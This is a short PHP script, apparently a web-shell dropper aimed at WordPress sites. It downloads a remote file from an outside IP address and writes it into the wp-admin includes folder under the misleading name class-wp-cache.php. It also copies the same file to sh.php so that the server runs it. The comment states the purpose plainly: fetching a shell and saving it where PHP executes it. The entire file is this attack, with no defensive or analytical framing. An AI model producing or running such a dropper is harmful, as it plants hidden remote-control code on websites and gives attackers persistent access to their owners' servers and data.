<?php
// Fetches a shell and saves it where PHP runs it.
$c = curl_init('http://203.0.113.45/s.txt');
curl_setopt($c, CURLOPT_RETURNTRANSFER, true);
$code = curl_exec($c);
file_put_contents(__DIR__ . '/../wp-admin/includes/class-wp-cache.php', $code);
copy('http://203.0.113.45/s.txt', 'sh.php');
